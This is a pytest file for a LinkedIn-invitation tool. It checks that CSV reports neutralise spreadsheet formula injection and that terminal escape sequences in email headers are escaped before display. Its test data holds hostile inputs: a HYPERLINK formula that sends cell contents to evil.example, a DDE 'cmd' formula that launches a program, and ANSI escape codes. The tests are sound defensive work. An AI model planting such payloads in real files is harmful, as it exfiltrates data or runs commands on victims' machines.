"""What reaches the owner's terminal and spreadsheet cannot act on them (issue 16)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

from inviteassist.cli.main import main
from inviteassist.config.settings import load_settings
from inviteassist.models import Event, Request, Requester, State
from inviteassist.store.db import Store
from tests.conftest import MINIMAL_CONFIG

NAMES = ('=HYPERLINK("https://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0",
         "+SUM(1)", "@Dana", "-Lee", "Dana Lee")


def test_report_csv_writes_no_formula(write_config, capsys) -> None:
    path = write_config(MINIMAL_CONFIG)
    settings = load_settings(path)
    store = Store.open(Path(settings.state.path))
    now = datetime(2026, 11, 25, 9, tzinfo=UTC)
    with store.transaction():
        for number, name in enumerate(NAMES):
            request_id = store.add_request(Request(
                id=0, network="linkedin", key=f"name:{number}", requester=Requester(name),
                invitation_id=None, note=None, genuine=True, notification_message_id=None,
                notification_subject="x", created_at=now), key=f"name:{number}", name_key=None)
            store.add_event(Event(request_id, now, State.DETECTED, "test"))
    store.close()
    assert main(["report", "--csv", "--config", str(path), "--now", "2026-11-25T10:00"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))[1:]
    cells = [cell for row in rows for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert {row[1] for row in rows} == {"'" + n if n[0] in "=+-@" else n for n in NAMES}


def test_inspect_escapes_an_escape_sequence_in_an_authserv_id(tmp_path, capsys) -> None:
    raw = ("Authentication-Results: mx\x1b[2J\x07.example; dkim=none\n"
           "From: Dana Lee via LinkedIn <invitations@linkedin.com>\nTo: alex@morgan.example\n"
           "Subject: Dana Lee wants to connect\n\nHi Alex,\n\nI'd like to join your LinkedIn "
           "network.\n\nDana Lee\n\nAccept: https://www.linkedin.com/comm/mynetwork/"
           "invite-accept/invitationId/7000000000000000009/\n")
    message = tmp_path / "escape.eml"
    message.write_bytes(raw.encode())
    assert main(["inspect", str(message)]) == 0
    shown = capsys.readouterr().out
    assert "\x1b" not in shown and "\x07" not in shown
    assert "mx\\x1b[2J\\x07.example" in shown
    assert main(["inspect", "--json", str(message)]) == 0
    assert "\x1b" not in capsys.readouterr().out


def test_check_says_where_the_authserv_id_comes_from(write_config, tmp_path, capsys) -> None:
    for sub in ("cur", "new", "tmp"):
        (tmp_path / "mail" / sub).mkdir(parents=True)
    derived = write_config(MINIMAL_CONFIG)
    assert main(["check", "--config", str(derived)]) == 0
    assert "authserv_ids is empty: each message's topmost" in capsys.readouterr().out
    configured = write_config(MINIMAL_CONFIG + '\n[detection]\nauthserv_ids = ["mx.example"]\n',
                              "configured.toml")
    assert main(["check", "--config", str(configured)]) == 0
    assert "trusted from mx.example" in capsys.readouterr().out
